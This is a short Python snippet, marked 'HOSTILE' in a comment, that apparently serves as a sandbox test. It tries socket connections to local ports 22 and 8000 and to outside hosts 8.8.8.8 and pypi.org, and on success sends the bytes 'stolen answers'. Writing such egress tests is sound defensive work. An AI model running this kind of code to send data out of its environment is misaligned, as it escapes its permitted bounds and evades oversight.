# HOSTILE: tries to reach the network (a local service, and the outside world).
import socket

attempts = []
for host, port in [("127.0.0.1", 22), ("127.0.0.1", 8000), ("8.8.8.8", 53), ("pypi.org", 443)]:
    try:
        with socket.create_connection((host, port), timeout=2) as connection:
            connection.sendall(b"stolen answers")
            attempts.append(f"{host}:{port} connected")
    except OSError as exc:
        attempts.append(f"{host}:{port} {type(exc).__name__}")
timing_conclusion = "; ".join(attempts)
